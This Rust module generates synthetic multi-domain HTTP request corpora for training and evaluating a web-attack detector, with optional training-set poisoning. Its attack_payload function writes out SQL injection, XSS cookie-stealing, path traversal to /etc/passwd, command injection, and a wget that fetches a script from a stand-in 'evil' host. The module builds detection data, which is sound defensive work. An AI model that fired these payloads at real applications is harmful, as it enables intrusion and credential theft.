//! Seeded synthetic multi-domain HTTP corpora with injected attacks and
//! training-set poisoning.

use std::collections::{BTreeMap, HashSet};

use percent_encoding::{utf8_percent_encode, AsciiSet, NON_ALPHANUMERIC};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::codec::RawRequest;
use crate::detect::Verdict;
use crate::error::{Error, Result};
use crate::vocab::hash_tokens;

const VALUE_SET: &AsciiSet = &NON_ALPHANUMERIC.remove(b'-').remove(b'.').remove(b'_').remove(b'~');

const SHARED_PATHS: &[&str] = &[
    "api", "v1", "v2", "user", "account", "login", "search", "item", "product", "cart", "order", "news",
    "list", "detail", "view", "profile", "settings", "help", "video", "music", "shop", "pay", "ajax",
    "data", "info", "report", "mobile", "comment", "category", "message",
];

const SHARED_WORDS: &[&str] = &[
    "red", "blue", "phone", "book", "shoes", "music", "cheap", "new", "best", "game", "movie", "coffee",
    "travel", "hotel", "camera", "laptop", "garden", "kids", "sport", "food",
];

/// Canonical value classes of keys shared by every domain.
const SHARED_KEYS: &[(&str, Kind)] = &[
    ("id", Kind::Number),
    ("uid", Kind::Number),
    ("ts", Kind::Timestamp),
    ("token", Kind::Hex),
    ("vid", Kind::Alnum),
    ("sort", Kind::Choice),
    ("lang", Kind::Choice),
    ("q", Kind::Words),
    ("page", Kind::SmallNumber),
    ("size", Kind::SmallNumber),
    ("type", Kind::Choice),
    ("cid", Kind::Alnum),
    ("format", Kind::Choice),
    ("sid", Kind::Hex),
];

const SYLLABLES: &[&str] = &[
    "ka", "lo", "mi", "ren", "tu", "sa", "vel", "no", "ri", "qua", "zen", "po", "fi", "dar", "mu", "xi",
    "bel", "ko", "ta", "gru",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
enum Kind {
    Number,
    SmallNumber,
    Timestamp,
    Hex,
    Alnum,
    Choice,
    Words,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
enum ValueClass {
    Number { max_len: usize },
    SmallNumber { max: u32 },
    Timestamp,
    Hex { len: usize },
    Alnum { len: usize },
    Choice(Vec<String>),
    Words(Vec<String>),
}

impl ValueClass {
    fn sample(&self, rng: &mut ChaCha8Rng) -> String {
        const ALNUM: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";
        match self {
            ValueClass::Number { max_len } => {
                let len = rng.gen_range(1..=*max_len);
                let lo = if len == 1 { 0 } else { 10u64.pow(len as u32 - 1) };
                rng.gen_range(lo..10u64.pow(len as u32)).to_string()
            }
            ValueClass::SmallNumber { max } => rng.gen_range(1..=*max).to_string(),
            ValueClass::Timestamp => rng.gen_range(1_500_000_000u64..1_700_000_000).to_string(),
            ValueClass::Hex { len } => (0..*len)
                .map(|_| char::from(ALNUM[rng.gen_range(0..16)]))
                .collect(),
            ValueClass::Alnum { len } => (0..*len)
                .map(|_| char::from(ALNUM[rng.gen_range(0..36)]))
                .collect(),
            ValueClass::Choice(opts) => opts.choose(rng).cloned().unwrap_or_default(),
            ValueClass::Words(dict) => {
                let n = rng.gen_range(1..=2);
                (0..n)
                    .map(|_| dict.choose(rng).cloned().unwrap_or_default())
                    .collect::<Vec<_>>()
                    .join(" ")
            }
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
struct Endpoint {
    path: Vec<String>,
    post: bool,
    params: Vec<String>,
}

/// Request grammar of one synthetic domain.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DomainGrammar {
    pub domain_id: String,
    endpoints: Vec<Endpoint>,
    weights: Vec<f64>,
    classes: BTreeMap<String, ValueClass>,
}

fn invent_word(rng: &mut ChaCha8Rng) -> String {
    let n = rng.gen_range(2..=3);
    (0..n).map(|_| *SYLLABLES.choose(rng).expect("non-empty")).collect()
}

fn pick_words(shared: &[&str], count: usize, overlap: f64, rng: &mut ChaCha8Rng) -> Vec<String> {
    let mut pool: Vec<&str> = shared.to_vec();
    pool.shuffle(rng);
    let mut out: Vec<String> = Vec::with_capacity(count);
    while out.len() < count {
        let w = if rng.gen_bool(overlap) && !pool.is_empty() {
            pool.pop().expect("non-empty").to_owned()
        } else {
            invent_word(rng)
        };
        if !out.contains(&w) {
            out.push(w);
        }
    }
    out
}

impl DomainGrammar {
    /// Draws a grammar whose path words, keys and dictionary words come from
    /// the shared pools with probability `overlap`.
    pub fn generate(domain_id: &str, overlap: f64, rng: &mut ChaCha8Rng) -> Self {
        let paths = pick_words(SHARED_PATHS, 24, overlap, rng);
        let dict = pick_words(SHARED_WORDS, 24, overlap, rng);
        let shared_keys: Vec<&str> = SHARED_KEYS.iter().map(|(k, _)| *k).collect();
        let keys = pick_words(&shared_keys, 14, overlap, rng);

        let mut classes = BTreeMap::new();
        for key in &keys {
            let kind = SHARED_KEYS
                .iter()
                .find(|(k, _)| k == key)
                .map(|(_, kind)| *kind)
                .unwrap_or_else(|| {
                    *[Kind::Number, Kind::SmallNumber, Kind::Hex, Kind::Alnum, Kind::Choice, Kind::Words]
                        .choose(rng)
                        .expect("non-empty")
                });
            let class = match kind {
                Kind::Number => ValueClass::Number {
                    max_len: rng.gen_range(3..=7),
                },
                Kind::SmallNumber => ValueClass::SmallNumber {
                    max: rng.gen_range(5..=40),
                },
                Kind::Timestamp => ValueClass::Timestamp,
                Kind::Hex => ValueClass::Hex {
                    len: *[16, 32].choose(rng).expect("non-empty"),
                },
                Kind::Alnum => ValueClass::Alnum {
                    len: rng.gen_range(6..=10),
                },
                Kind::Choice => {
                    let n = rng.gen_range(2..=5);
                    ValueClass::Choice((0..n).map(|_| invent_word(rng)).collect())
                }
                Kind::Words => ValueClass::Words(dict.clone()),
            };
            classes.insert(key.clone(), class);
        }

        let n_endpoints = rng.gen_range(10..=16);
        let mut endpoints = Vec::with_capacity(n_endpoints);
        for _ in 0..n_endpoints {
            let depth = rng.gen_range(1..=3);
            let path: Vec<String> = (0..depth).map(|_| paths.choose(rng).cloned().expect("non-empty")).collect();
            let n_params = rng.gen_range(1..=4);
            let params: Vec<String> = keys.choose_multiple(rng, n_params).cloned().collect();
            endpoints.push(Endpoint {
                path,
                post: rng.gen_bool(0.2),
                params,
            });
        }
        let weights = (0..n_endpoints).map(|r| 1.0 / (r as f64 + 1.0)).collect();
        DomainGrammar {
            domain_id: domain_id.to_owned(),
            endpoints,
            weights,
            classes,
        }
    }

    fn endpoint(&self, rng: &mut ChaCha8Rng) -> &Endpoint {
        let total: f64 = self.weights.iter().sum();
        let mut x = rng.gen_range(0.0..total);
        for (e, w) in self.endpoints.iter().zip(&self.weights) {
            if x < *w {
                return e;
            }
            x -= w;
        }
        self.endpoints.last().expect("grammar has endpoints")
    }

    fn render(&self, ep: &Endpoint, pairs: &[(String, String)]) -> RawRequest {
        let path = format!("/{}", ep.path.join("/"));
        let query = pairs
            .iter()
            .map(|(k, v)| format!("{k}={}", utf8_percent_encode(v, VALUE_SET)))
            .collect::<Vec<_>>()
            .join("&");
        if ep.post {
            RawRequest::post_form(self.domain_id.clone(), path, query)
        } else if query.is_empty() {
            RawRequest::get(self.domain_id.clone(), path)
        } else {
            RawRequest::get(self.domain_id.clone(), format!("{path}?{query}"))
        }
    }

    fn benign_pairs(&self, ep: &Endpoint, rng: &mut ChaCha8Rng) -> Vec<(String, String)> {
        ep.params
            .iter()
            .map(|k| (k.clone(), self.classes[k].sample(rng)))
            .collect()
    }

    pub fn sample_benign(&self, rng: &mut ChaCha8Rng) -> RawRequest {
        let ep = self.endpoint(rng);
        let pairs = self.benign_pairs(ep, rng);
        self.render(ep, &pairs)
    }

    /// A benign request with one value replaced by an injection payload.
    pub fn sample_attack(&self, rng: &mut ChaCha8Rng) -> RawRequest {
        let ep = self.endpoint(rng);
        let mut pairs = self.benign_pairs(ep, rng);
        let i = rng.gen_range(0..pairs.len());
        let original = pairs[i].1.clone();
        pairs[i].1 = attack_payload(&original, rng);
        self.render(ep, &pairs)
    }
}

/// SQL injection, XSS, path traversal or command injection payload built
/// around the original value, sometimes with gibberish tokens appended.
pub fn attack_payload(original: &str, rng: &mut ChaCha8Rng) -> String {
    const TABLES: &[&str] = &["users", "admin", "members", "accounts"];
    const COLUMNS: &[&str] = &["password", "passwd", "username", "email"];
    let t = TABLES.choose(rng).expect("non-empty");
    let c = COLUMNS.choose(rng).expect("non-empty");
    let n = rng.gen_range(1..10);
    let mut p = match rng.gen_range(0..12) {
        0 => format!("{original}' or '{n}'='{n}"),
        1 => format!("{original} union select {c},{n} from {t}--"),
        2 => format!("{original}' and sleep({n})#"),
        3 => format!("{n};drop table {t}"),
        4 => format!("<script>alert({n})</script>"),
        5 => "\"><img src=x onerror=alert(document.cookie)>".to_owned(),
        6 => format!("javascript:alert({n})"),
        7 => "../../../../etc/passwd".to_owned(),
        8 => "..%2f..%2f..%2fwindows%2fwin.ini".to_owned(),
        9 => format!("{original};cat /etc/passwd"),
        10 => format!("|wget http://evil{n}.example/x.sh"),
        _ => format!("{original}`id`"),
    };
    if rng.gen_bool(0.3) {
        p.push(' ');
        p.push_str(&invent_word(rng));
        p.push_str("zq");
    }
    p
}

/// One request with an optional ground-truth label.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Record {
    #[serde(flatten)]
    pub request: RawRequest,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub label: Option<Verdict>,
}

impl Record {
    /// Hash of method, URL and body; used for leakage audits.
    pub fn fingerprint(&self) -> u64 {
        let r = &self.request;
        hash_tokens(&[
            r.domain_id.as_str(),
            r.method.as_str(),
            r.url.as_str(),
            r.body.as_deref().unwrap_or(""),
        ])
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct SplitSize {
    pub train: usize,
    pub test: usize,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SyntheticSpec {
    /// One entry per domain.
    pub sizes: Vec<SplitSize>,
    pub overlap: f64,
    /// Every domain reuses the first domain's grammar.
    #[serde(default)]
    pub identical_grammars: bool,
    /// Probability that a test record is an attack.
    pub attack_rate: f64,
    /// Fraction of each training split replaced by attack-patterned records.
    pub poison_ratio: f64,
    pub seed: u64,
}

impl SyntheticSpec {
    pub fn validate(&self) -> Result<()> {
        for (name, v) in [
            ("overlap", self.overlap),
            ("attack rate", self.attack_rate),
            ("poison ratio", self.poison_ratio),
        ] {
            if !(0.0..=1.0).contains(&v) {
                return Err(Error::Config(format!("{name} {v} outside [0, 1]")));
            }
        }
        if self.sizes.is_empty() {
            return Err(Error::Config("at least one domain is required".into()));
        }
        Ok(())
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LabeledCorpus {
    pub domain_id: String,
    pub train: Vec<Record>,
    pub test: Vec<Record>,
}

impl LabeledCorpus {
    /// Training records also present in the test split.
    pub fn leaked(&self) -> usize {
        let train: HashSet<u64> = self.train.iter().map(Record::fingerprint).collect();
        self.test.iter().filter(|r| train.contains(&r.fingerprint())).count()
    }
}

pub fn domain_id(i: usize) -> String {
    format!("site{i}")
}

/// Grammars of all domains of a spec.
pub fn grammars(spec: &SyntheticSpec) -> Vec<DomainGrammar> {
    let mut rng = ChaCha8Rng::seed_from_u64(spec.seed);
    let mut out: Vec<DomainGrammar> = Vec::with_capacity(spec.sizes.len());
    for i in 0..spec.sizes.len() {
        let id = domain_id(i);
        let g = match out.first() {
            Some(first) if spec.identical_grammars => DomainGrammar {
                domain_id: id,
                ..first.clone()
            },
            _ => DomainGrammar::generate(&id, spec.overlap, &mut rng),
        };
        out.push(g);
    }
    out
}

/// Draws train and test splits from a grammar. Test records never repeat a
/// training record.
pub fn sample_splits(
    grammar: &DomainGrammar,
    size: SplitSize,
    attack_rate: f64,
    poison_ratio: f64,
    rng: &mut ChaCha8Rng,
) -> Result<LabeledCorpus> {
    let n_poison = (poison_ratio * size.train as f64).round() as usize;
    let mut train: Vec<Record> = (0..size.train)
        .map(|i| {
            if i < n_poison {
                Record {
                    request: grammar.sample_attack(rng),
                    label: Some(Verdict::Attack),
                }
            } else {
                Record {
                    request: grammar.sample_benign(rng),
                    label: Some(Verdict::Benign),
                }
            }
        })
        .collect();
    train.shuffle(rng);
    let seen: HashSet<u64> = train.iter().map(Record::fingerprint).collect();

    let mut test = Vec::with_capacity(size.test);
    let mut rejected = 0usize;
    while test.len() < size.test {
        let attack = rng.gen_bool(attack_rate);
        let rec = Record {
            request: if attack {
                grammar.sample_attack(rng)
            } else {
                grammar.sample_benign(rng)
            },
            label: Some(if attack { Verdict::Attack } else { Verdict::Benign }),
        };
        if seen.contains(&rec.fingerprint()) {
            rejected += 1;
            if rejected > 100 * size.test.max(100) {
                return Err(Error::Config(format!(
                    "grammar of `{}` cannot produce unseen test records",
                    grammar.domain_id
                )));
            }
            continue;
        }
        test.push(rec);
    }
    Ok(LabeledCorpus {
        domain_id: grammar.domain_id.clone(),
        train,
        test,
    })
}

/// Generates one labeled corpus per domain of the spec.
pub fn generate_synthetic(spec: &SyntheticSpec) -> Result<Vec<LabeledCorpus>> {
    spec.validate()?;
    let gs = grammars(spec);
    let mut rng = ChaCha8Rng::seed_from_u64(spec.seed ^ 0x9e37_79b9_7f4a_7c15);
    gs.iter()
        .zip(&spec.sizes)
        .map(|(g, &size)| sample_splits(g, size, spec.attack_rate, spec.poison_ratio, &mut rng))
        .collect()
}
